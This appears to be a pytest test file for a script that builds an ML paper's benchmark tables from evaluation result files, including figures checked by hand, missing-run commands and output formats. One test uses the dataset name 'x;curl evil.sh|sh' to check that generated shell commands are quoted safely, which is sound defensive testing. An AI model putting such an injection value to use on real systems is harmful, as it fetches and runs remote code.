"""The paper's table from result files: figures by hand, what is missing, what is refused, the formats."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shlex
import subprocess
from pathlib import Path

import numpy as np
import pytest

import summarize_results
from opsd.errors import run_cli
from opsd.evaluation.config import EvalConfig
from opsd.evaluation.grading import ProblemGrade
from opsd.evaluation.names import result_path
from opsd.evaluation.results import build_result, problem_record, write_result
from opsd.report import plots
from opsd.report.notes import PAPER_SEEDS, SAMPLING, SMALL_MAX_NEW_TOKENS, missing_commands
from opsd.report.summary import Cell, Table, build_tables, load_run, split_name

ROOT = Path(__file__).resolve().parents[2]
# Section 6 of the protocol, as the paper prints it.
PAPER_TABLE = """
qwen3_4b_base OPSD | 95.33 ± 0.08 | 75.19 ± 0.42 | 66.67 ± 1.27 | 43.89 ± 0.73 | 70.27
qwen3_4b_base EOPD | 95.33 ± 0.08 | 73.61 ± 2.17 | 65.65 ± 0.89 | 41.94 ± 2.00 | 69.13
qwen3_4b_base REOPOLD | 95.09 ± 0.09 | 73.98 ± 0.42 | 62.13 ± 1.67 | 41.39 ± 1.44 | 68.15
qwen3_4b_base PW-OPSD Moderate | 95.34 ± 0.10 | 76.20 ± 0.58 | 67.78 ± 1.27 | 43.33 ± 1.21 | 70.66
qwen3_4b_base PW-OPSD Aggressive | 95.53 ± 0.04 | 75.19 ± 0.85 | 67.59 ± 0.85 | 45.37 ± 0.58 | 70.92
dsr1_l8b OPSD | 89.02 ± 0.19 | 40.74 ± 2.58 | 31.57 ± 1.28 | 20.93 ± 0.80 | 45.56
dsr1_l8b EOPD | 88.84 ± 0.30 | 43.06 ± 1.69 | 30.65 ± 0.58 | 20.93 ± 1.43 | 45.87
dsr1_l8b REOPOLD | 88.59 ± 0.36 | 43.43 ± 2.74 | 30.65 ± 1.40 | 18.98 ± 0.42 | 45.41
dsr1_l8b PW-OPSD Moderate | 88.72 ± 0.25 | 41.20 ± 0.32 | 32.22 ± 0.56 | 21.48 ± 0.42 | 45.91
"""


def result(dataset: str, seed: int | None, correct: list[list[bool]], **regime: object) -> dict:
    """A result with these verdicts; a problem's vote is correct when all of its samples are."""
    val_n = len(correct[0])
    records = [
        problem_record(
            problem_id=index,
            problem="Compute 1+1.",
            ground_truth="2",
            texts=["text"] * val_n,
            predicted=["2" if verdict else "3" for verdict in row],
            truncated=[False] * val_n,
            tokens=[1] * val_n,
            grade=ProblemGrade(row, [list(range(val_n))], 0, all(row)),
        )
        for index, row in enumerate(correct)
    ]
    settings = {name: getattr(EvalConfig, name) for name in SAMPLING} | {
        "base_model": "outputs/m",
        "model_identity": "weights",
        "dataset": dataset,
        "dataset_fingerprint": f"problems of {dataset}",
        "prompt_style": "thinking",
        "val_n": val_n,
        "seed": seed,
    }
    return build_result(regime=settings | regime, results=records)


def rows_of(count: int, *, problems: int = 4, val_n: int = 2) -> list[list[bool]]:
    """`count` correct samples, the first problems having all of theirs right."""
    flat = [index < count for index in range(problems * val_n)]
    return [flat[start : start + val_n] for start in range(0, len(flat), val_n)]


def write(folder: Path, name: str, dataset: str, seed: int | None, count: int, **more: object) -> Path:
    """A result with `count` of 4 x 2 samples correct, under the name that run_eval.sh gives it."""
    path = result_path(name, dataset, seed, folder=folder)
    write_result(path, result(dataset, seed, rows_of(count), model_identity=name) | more)
    return path


def tables_of(*paths: Path) -> list[Table]:
    skipped: list[str] = []
    tables = build_tables([load_run(path) for path in paths], skipped.append)
    assert not skipped
    return tables


def summarize(capsys: pytest.CaptureFixture[str], *argv: object) -> tuple[int, str, str]:
    code = run_cli(lambda: summarize_results.main(list(map(str, argv))))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def section(text: str, title: str) -> list[list[str]]:
    """The cells of the Markdown table under the heading that begins with `title`, without rule and notes."""
    block = next(part for part in text.split("### ") if part.startswith(title))
    lines = [line for line in block.splitlines() if line.startswith("|")]
    cells = [re.sub(r" \[[\d, ]+\] \|", " |", line).strip("|").split("|") for line in (lines[0], *lines[2:])]
    return [[cell.strip() for cell in line] for line in cells]


@pytest.fixture
def hand(tmp_path: Path) -> Path:
    """Three seeds of one method on the four benchmarks; correct of 8 samples in each seed."""
    counts = {"math500": (8, 8, 8), "aime24": (4, 5, 6), "aime25": (2, 2, 5), "hmmt25": (2, 4, 6)}
    for dataset, each in counts.items():
        for seed, count in enumerate(each, 1):
            write(tmp_path, "qwen3_4b_base_pwopsd", dataset, seed, count)
    return tmp_path


def test_means_and_deviations_by_hand(hand, capsys):
    code, text, _ = summarize(capsys, f"{hand}/*.json")
    lines = section(text, "qwen3_4b_base: Avg@2, mean ±")
    assert code == 0
    assert lines[0] == ["method", "MATH-500", "AIME 2024", "AIME 2025", "HMMT 2025", "Avg@2, mean of 4"]
    # aime24: 50, 62.5, 75: deviations -12.5, 0, 12.5, so 312.5/2 = 12.5².  aime25: 25, 25, 62.5: deviations
    # -12.5, -12.5, 25, so 937.5/2 = 21.65².  hmmt25: 25, 50, 75.  Mean: (100 + 62.5 + 37.5 + 50)/4.
    assert ["PW-OPSD", "100.00 ± 0.00", "62.50 ± 12.50", "37.50 ± 21.65", "50.00 ± 25.00", "62.50"] in lines
    assert [row[0] for row in lines[1:5]] == ["OPSD", "EOPD", "REOPOLD", "PW-OPSD"]
    assert lines[1][1:] == ["—"] * 5
    # aime24 has 4, 5, 6 correct of 4 x 2, filled up from the first problem. With one right: 2, 3, 3 problems;
    # with both right: 2, 2, 3.
    for title, expected in (("Pass@2", "66.67 ± 14.43"), ("Maj@2", "58.33 ± 14.43")):
        row = section(text, f"qwen3_4b_base: {title}")[4]
        assert (row[0], row[2]) == ("PW-OPSD", expected)


def test_the_papers_numbers_digit_by_digit(tmp_path, capsys):
    """The shipped rows are the printed ones, below a table's own, in the columns of the benchmarks."""
    lines = []
    for model in ("qwen3_4b_base", "dsr1_l8b"):
        write(tmp_path, model, "aime24", 1, 4)
        _, text, _ = summarize(capsys, f"{tmp_path}/{model}*.json")
        rows = section(text, f"{model}: Avg@2, mean ±")
        assert not any("(paper)" in row[0] for row in rows[:6])
        lines += [f"{model} {' | '.join(row)}".replace(" (paper)", "") for row in rows[6:]]
    assert lines == PAPER_TABLE.strip().splitlines()
    for line in lines:
        *cells, mean = line.split(" | ")[1:]
        # The last column is the equal-weight mean of four, up to the rounding of its parts.
        assert np.mean([float(cell.split()[0]) for cell in cells]) == pytest.approx(float(mean), abs=0.011)


def test_the_interval_over_problems(tmp_path):
    paths = [write(tmp_path, "small_pwopsd", dataset, 1, 5) for dataset in ("small", "small_hard")]
    shares = np.array([1, 1, 0.5, 0])
    (row,) = tables_of(*paths)[0].rows
    draws = row.cells["small"].bootstrap("average")
    # The resampled mean has the standard error of the mean; 2,000 draws know it to 2 %.
    assert draws.std() == pytest.approx(100 * shares.std() / 2, rel=0.05)
    statistic = row.cells["small"].statistic("average")
    assert statistic.interval == tuple(np.percentile(draws, [2.5, 97.5]))
    # Independent benchmarks: the mean's interval is narrower by about the root of two.
    low, high = row.statistic("average", ("small", "small_hard")).interval
    assert (high - low) < 0.85 * (statistic.interval[1] - statistic.interval[0])
    alike = tmp_path / "small_opsd_small_38k_seed1.json"
    write_result(alike, result("small", 1, [[True, False]] * 4))
    assert Cell([load_run(alike)]).statistic("average").interval == (50.0, 50.0)


NAMES = """
qwen3_4b_base_pwopsd = qwen3_4b_base pwopsd None
qwen3_4b_base = qwen3_4b_base base None
qwen3_4b_base_base = qwen3_4b_base base None
olmo3_7b_think_reopold_t7 = olmo3_7b_think reopold 7
small_base = small base None
small_base_vllm = small base_vllm None
small_pwopsd_flat_t42 = small pwopsd_flat 42
small_pwopsd_s1 = small pwopsd_s1 None
somebody_elses = somebody_elses base None
"""


@pytest.mark.parametrize("line", NAMES.strip().splitlines())
def test_names_of_runs(line):
    name, parts = line.split(" = ")
    assert list(map(str, split_name(name))) == parts.split()


def test_the_small_world(tmp_path, capsys):
    variants = ["base", "pwopsd_quickstart", "opsd", "pwopsd_s1", "pwopsd", "base_vllm", "theirs"]
    for name in variants:
        for dataset in ("small_hard", "small"):
            write(tmp_path, f"small_{name}", dataset, 1, 6, max_new_tokens=160)
    code, text, _ = summarize(capsys, f"{tmp_path}/small*.json")
    lines = section(text, "small: Avg@2, mean")
    assert lines[0] == ["method", "small", "small, hard", "Avg@2, mean of 2"]
    # The base first, no row for a method that was not run, nothing of the paper's, nothing asked for.
    titles = "Base|Base (vllm)|OPSD|PW-OPSD|PW-OPSD (quickstart)|PW-OPSD (s1)|theirs"
    assert [row[0] for row in lines[1:]] == titles.split("|")
    assert all(row[1:] == ["75.00"] * 3 for row in lines[1:])
    assert "paper" not in text
    assert (code, "run_eval.sh" in text) == (0, False)


def test_training_seeds_by_hand(tmp_path, capsys):
    for training_seed, counts in {42: (4, 6), 43: (8, 8), 44: (2, 2)}.items():
        for seed, count in enumerate(counts, 1):
            write(tmp_path, f"small_pwopsd_t{training_seed}", "small", seed, count)
    write(tmp_path, "small_pwopsd", "small", 1, 8)
    write(tmp_path, "small_opsd_t42", "small", 1, 8)
    _, text, _ = summarize(capsys, f"{tmp_path}/*.json")
    # Each training seed is the mean of its runs: 62.5, 100, 25; their deviation is (0, 37.5, -37.5) -> 37.5.
    assert section(text, "small: Avg@2, mean")[1:] == [
        ["OPSD (training seed 42)", "100.00"],
        ["PW-OPSD", "100.00"],
        ["PW-OPSD (3 training seeds)", "62.50 ± 37.50"],
    ]


def test_a_benchmark_of_the_users_own_is_a_column_outside_the_mean(hand, capsys):
    write(hand, "qwen3_4b_base_pwopsd", "amc23", 1, 8)
    _, text, _ = summarize(capsys, f"{hand}/*.json")
    lines = section(text, "qwen3_4b_base: Avg@2, mean")
    assert lines[0][-2:] == ["amc23", "Avg@2, mean of 4"]
    assert lines[4][-2:] == ["100.00", "62.50"]
    assert lines[5][-2:] == ["—", "70.27"]


def test_files_of_the_authors_release(tmp_path, capsys):
    write(tmp_path, "qwen3_4b_base_opsd", "aime24", 1, 4)
    path = next(tmp_path.iterdir())
    stored = json.loads(path.read_text())
    stored["dataset"] = "HuggingFaceH4/aime_2024"
    for name in ("model_identity", "dataset_fingerprint", "prompt_style", "truncation_share", "date"):
        del stored[name]
    for record in stored["results"]:
        record["gt_answer"] = record.pop("ground_truth")
        for generation in record["generations"]:
            del generation["formatted"], generation["truncated"]
    path.write_text(json.dumps(stored))
    _, text, _ = summarize(capsys, path)
    assert section(text, "qwen3_4b_base: Avg@2, mean")[1][2] == "50.00"


def test_the_commands_that_fill_the_table(hand, capsys):
    (hand / "qwen3_4b_base_pwopsd_aime25_38k_seed2.json").unlink()
    _, text, _ = summarize(capsys, f"{hand}/*.json")
    # Three methods without a result on four benchmarks and three seeds, and the run that was removed. The
    # files hold 2 samples and 4 problems; what fills up must too.
    assert text.count("run_eval.sh") == 3 * 4 * 3 + 1
    lone = "VAL_N=2 NUM_SAMPLES=4 bash launchers/run_eval.sh qwen3_4b_base_pwopsd aime25 4 2\n"
    assert lone in text
    _, text, _ = summarize(capsys, f"{hand}/*.json", "--seeds", 1)
    assert (lone in text, text.count("run_eval.sh")) == (False, 3 * 4)


@pytest.mark.parametrize(
    ("name", "dataset", "max_new_tokens"),
    [("small_base", "small", 160), ("small_pwopsd_t42", "small", 160), ("olmo3_7b_think", "aime24", 38912)],
)
def test_a_command_writes_the_file_that_is_missing(tmp_path, name, dataset, max_new_tokens):
    path = write(tmp_path, name, dataset, 1, 4)
    stored = json.loads(path.read_text()) | {"max_new_tokens": max_new_tokens}
    path.write_text(json.dumps(stored))
    table = tables_of(path)[0]
    wanted = [c for c in missing_commands(table, [5]) if f" {name} {dataset} " in c]
    words = shlex.split(wanted[0])
    settings = dict(word.split("=") for word in words if "=" in word)
    environment = {k: v for k, v in os.environ.items() if k not in ("EVAL_ROOT", "OUTPUT_ROOT", "ENGINE")}
    done = subprocess.run(
        [word for word in words if "=" not in word],
        env=environment | settings | {"DRY_RUN": "1"},
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=True,
    )
    expected = result_path(name, dataset, 5, max_new_tokens=max_new_tokens, num_samples=4)
    assert f"--output {expected}" in done.stdout
    assert "--val_n 2 " in done.stdout
    assert f"--num_samples {4}" in done.stdout


def test_the_seeds_and_settings_are_the_launchers():
    script = (ROOT / "launchers" / "reproduce_paper.sh").read_text()
    assert re.search(r"\$\{SEEDS:-([\d ]+)\}", script)[1].split() == list(map(str, PAPER_SEEDS))
    small = (ROOT / "launchers" / "models" / "small.sh").read_text()
    assert f"EVAL_FLAGS=(--max_new_tokens {SMALL_MAX_NEW_TOKENS})" in small


@pytest.mark.parametrize(
    ("field", "value"),
    [("model_identity", "other weights"), ("dataset_fingerprint", "other problems"), ("num_problems", 3)],
)
def test_a_cell_of_unlike_runs_is_left_out_with_a_line(tmp_path, capsys, field, value):
    write(tmp_path, "small_opsd", "small", 1, 4)
    for name in ("small_pwopsd", "small_pwopsd_t1"):
        write(tmp_path, name, "small", 1, 4)
        path = write(tmp_path, name, "small", 2, 4)
        stored = json.loads(path.read_text()) | {field: value}
        path.write_text(json.dumps(stored | {"results": stored["results"][: stored["num_problems"]]}))
    code, text, error = summarize(capsys, f"{tmp_path}/*.json")
    assert code == 1
    assert section(text, "small: Avg@2, mean")[1:] == [["OPSD", "50.00"]]
    assert len(error.splitlines()) == 2
    for part in (f"{field}: ", str(value), "seed1.json", "seed2.json"):
        assert part in error


@pytest.mark.parametrize(
    ("name", "dataset"),
    [("small_pwopsd", "small_hard"), ("small_opsd", "small"), ("small_pwopsd", "small")],
    ids=["column", "row", "cell"],
)
@pytest.mark.parametrize(
    ("field", "value", "said"),
    [
        ("top_k", 20, "top_k 20"),
        ("temperature", 0.6, "temperature 0.6"),
        ("max_new_tokens", 2048, "at most 2,048 new tokens"),
        ("enable_thinking", False, "thinking off"),
    ],
)
def test_each_regime_has_a_table_that_states_it(tmp_path, capsys, name, dataset, field, value, said):
    write(tmp_path, "small_pwopsd", "small", 1, 4)
    write(tmp_path, name, dataset, 2, 4, **{field: value})
    code, text, _ = summarize(capsys, f"{tmp_path}/*.json")
    assert code == 0
    regimes = [line for line in text.splitlines() if line.startswith("Regime: ")]
    assert len(regimes) == 8, "two tables of four sections"
    assert sum(said in line for line in regimes) == 4
    assert "±" not in "".join(line for line in text.splitlines() if line.startswith("| "))


def test_one_run_twice_is_left_out(tmp_path, capsys):
    write(tmp_path, "small_pwopsd", "small", 0, 4)
    path = write(tmp_path, "small_pwopsd", "small", None, 4)
    path.write_text(path.read_text().replace('"seed": null', '"seed": 0'))
    code, text, error = summarize(capsys, f"{tmp_path}/*.json")
    assert (code, text) == (1, "")
    assert "twice" in error


def marked(text: str, method: str, column: int) -> list[str]:
    """The notes of one cell of the first table."""
    block = text.split("### ")[1]
    row = next(line for line in block.splitlines() if line.startswith(f"| {method} "))
    numbers = re.search(r" \[([\d, ]+)\]$", row.split("|")[column + 1].strip())
    notes = dict(re.findall(r"^\[(\d+)\] (.+)$", block, re.M))
    return [notes[number] for number in numbers[1].split(", ")] if numbers else []


# A cell like the paper's: every problem of AIME 2024, 12 samples, three seeds, checkpoint 100.
LIKE_THE_PAPERS = {
    "training_run": {"method": "opsd", "run_name": "dsr1_l8b_opsd", "adapter_step": 100},
    "grading": {"math_verify": "0.9.0", "time_limit_s": 5.0, "killed": 0},
}


def paper_cell(folder: Path, *, name: str = "dsr1_l8b_opsd", seeds: int = 3, **more: object) -> None:
    for seed in range(1, seeds + 1):
        stored = result("aime24", seed, rows_of(100, problems=30, val_n=12), model_identity=name)
        write_result(result_path(name, "aime24", seed, folder=folder), stored | LIKE_THE_PAPERS | more)


def test_a_cell_like_the_papers_has_no_mark(tmp_path, capsys):
    paper_cell(tmp_path)
    _, text, _ = summarize(capsys, f"{tmp_path}/*.json", "--seeds", 3, 4)
    assert marked(text, "OPSD", 2) == []
    # What fills it up needs no settings.
    assert "\nbash launchers/run_eval.sh dsr1_l8b_opsd aime24 4 4\n" in text
    assert "dsr1_l8b_opsd aime24 4 3" not in text
    assert (
        "Regime: temperature 1, top_p 0.95, top_k off, min_p off, presence penalty 0, thinking on, at most "
        "38,912 new tokens, 12 samples a problem; problems: AIME 2024 30; graded with math_verify 0.9.0, "
        "time_limit_s 5.0." in text
    )


@pytest.mark.parametrize(
    ("changes", "note"),
    [
        ({"temperature": 0.6}, "temperature 0.6 (the paper: temperature 1)"),
        ({"enable_thinking": False}, "thinking off (the paper: thinking on)"),
        ({"max_new_tokens": 2048}, "at most 2,048 new tokens (the paper: at most 38,912 new tokens)"),
        ({"seeds": 2}, "evaluation seeds: 2 (the paper: 3)"),
        ({"training_run": {"method": "opsd", "adapter_step": 50}}, "adapter of step 50 (the paper: 100)"),
        ({"training_run": {"method": "eopd", "adapter_step": 100}}, "was trained with eopd by its manifest"),
        ({"training_run": {**LIKE_THE_PAPERS["training_run"], "run_name": "x_opsd"}}, "of the run x_opsd"),
        ({"training_run": None}, "states no training run"),
        ({"grading": {"killed": 1}}, "3 parses or comparisons were killed"),
        ({"truncation_share": 0.125}, "12 % of the samples were cut off at 38,912 tokens"),
        ({"name": "dsr1_l8b"}, "was trained with opsd by its manifest"),
    ],
)
def test_a_cell_that_is_not_the_papers_is_marked(tmp_path, capsys, changes, note):
    paper_cell(tmp_path, **changes)
    _, text, _ = summarize(capsys, f"{tmp_path}/*.json")
    (found,) = marked(text, "Base" if "name" in changes else "OPSD", 2)
    assert note in found
    _, text, _ = summarize(capsys, f"{tmp_path}/*.json", "--format", "csv")
    assert note in text


def test_seeds_graded_by_different_versions_are_marked(tmp_path, capsys):
    paper_cell(tmp_path)
    path = result_path("dsr1_l8b_opsd", "aime24", 2, folder=tmp_path)
    path.write_text(path.read_text().replace('"math_verify": "0.9.0"', '"math_verify": "0.8.0"'))
    _, text, _ = summarize(capsys, f"{tmp_path}/*.json")
    (note,) = marked(text, "OPSD", 2)
    assert note == "graded with math_verify 0.9.0, time_limit_s 5.0; math_verify 0.8.0, time_limit_s 5.0"


def test_a_look_at_five_problems_is_a_row_of_its_own(tmp_path, capsys):
    paper_cell(tmp_path)
    path = result_path("dsr1_l8b_opsd", "aime24", 1, num_samples=5, folder=tmp_path)
    write_result(path, result("aime24", 1, rows_of(60, problems=5, val_n=12)))
    code, text, _ = summarize(capsys, f"{tmp_path}/*.json")
    assert code == 0
    assert path.name == "dsr1_l8b_opsd_aime24_38k_first5_seed1.json"
    assert [line[2] for line in section(text, "dsr1_l8b: Avg@12, mean")[1:3]] == ["27.78 ± 0.00", "100.00"]
    assert "5 of 30 problems" in marked(text, "OPSD (first 5 problems)", 2)
    assert "NUM_SAMPLES=5 bash launchers/run_eval.sh dsr1_l8b_opsd aime24 4 2" in text


def test_commands_repeat_the_regime_and_are_quoted(tmp_path):
    sampling = {"temperature": 0.6, "top_k": 20, "enable_thinking": False}
    path = result_path("small_base", "small", 1, folder=tmp_path)
    write_result(path, result("x;curl evil.sh|sh", 1, rows_of(4), **sampling))
    (command,) = missing_commands(tables_of(path)[0], [2])
    words = shlex.split(command)
    assert words[words.index("--") :] == ["--", "--no_thinking", "--temperature", "0.6", "--top_k", "20"]
    assert "'x;curl evil.sh|sh'" in command
    assert "MAX_NEW_TOKENS=38912" in words, "the model's own length is another"


def test_damaged_and_foreign_files_are_skipped(hand, capsys):
    (hand / "qwen3_4b_base_opsd_38k.json").write_text('{"base_model": "m", "resu')
    (hand / "notes_38k.json").write_text('{"a": 1}')
    (hand / "my result.json").write_bytes((hand / "qwen3_4b_base_pwopsd_38k_seed1.json").read_bytes())
    code, text, error = summarize(capsys, f"{hand}/*.json")
    assert code == 1
    assert section(text, "qwen3_4b_base: Avg@2, mean")[4][1] == "100.00 ± 0.00"
    assert len(error.splitlines()) == 3
    reasons = {"opsd_38k.json": "damaged", "notes": "lacks base_model", "my result": "not named"}
    for name, why in reasons.items():
        assert any(name in line and why in line for line in error.splitlines())


def test_an_output_that_cannot_be_written(hand, capsys):
    (hand / "file").write_text("")
    code, _, error = summarize(capsys, f"{hand}/*_38k*.json", "--output", hand / "file" / "table.md")
    assert code == 2
    assert "cannot be written" in error


def test_csv_holds_every_figure(hand, capsys, tmp_path):
    output = tmp_path / "table.csv"
    code, text, _ = summarize(capsys, f"{hand}/*_38k*.json", "--format", "csv", "--output", output)
    assert (code, text) == (0, "")
    rows = list(csv.DictReader(io.StringIO(output.read_text("utf-8"))))
    ours = {(r["benchmark"], r["metric"]): r for r in rows if r["source"] == "ours"}
    assert len(ours) == 5 * 3
    cell = ours["aime25", "average"]
    found = [cell[name] for name in ("model", "method", "mean", "deviation", "values")]
    assert found == ["qwen3_4b_base", "PW-OPSD", "37.5000", "21.6506", "3"]
    assert float(cell["low95"]) < 37.5 < float(cell["high95"])
    assert ours["mean of 4", "average"]["mean"] == "62.5000"
    paper = [r for r in rows if r["source"] == "paper"]
    assert len(paper) == 5 * 5
    assert paper[0]["mean"] == "95.33"


def test_latex(hand, capsys):
    _, text, _ = summarize(capsys, f"{hand}/*.json", "--format", "latex")
    cells = ["100.00 ± 0.00", "62.50 ± 12.50", "37.50 ± 21.65", "50.00 ± 25.00", "62.50"]
    line = " & ".join(["PW-OPSD", *cells]).replace("±", "$\\pm$")
    assert f"{line} \\\\\n" in re.sub(r" \[[\d, ]+\] ", " ", text)
    assert text.count("\\begin{tabular}{lccccc}") == text.count("\\begin{tabular}{p{\\textwidth}}") == 4
    body = [line for line in text.splitlines() if not line.startswith("%")]
    assert not re.search(r"(?<!\\)[_%#]", "\n".join(body))


def test_the_plot(hand, capsys, tmp_path, monkeypatch):
    """A panel per figure of each table; a cell that is not the paper's has the numbers of the notes below."""
    for seed in (1, 2):
        write(hand, "small_base", "small", seed, 3 + seed)
    figures = []
    monkeypatch.setattr(plots, "save", lambda figure, path: figures.append(figure))
    assert summarize(capsys, f"{hand}/*.json", "--plot", tmp_path / "table.png")[0] == 0
    (figure,) = figures
    titles = [axis.get_title(loc="left") for axis in figure.axes if axis.axison]
    assert titles == ["MATH-500", "AIME 2024", "AIME 2025", "HMMT 2025", "mean of 4", "small"]
    notes = dict(re.findall(r"^\[(\d+)\] (.+)$", figure.get_supxlabel(), re.M))
    marks = [
        {notes[n] for text in axis.texts for n in re.findall(r"\d+", text.get_text())} for axis in figure.axes
    ]
    assert {"4 of 30 problems", "2 samples a problem (the paper: 12 samples a problem)"} < marks[1]
    assert "4 of 500 problems" in marks[0] - marks[1]
    assert marks[5] == {"4 of 256 problems"}
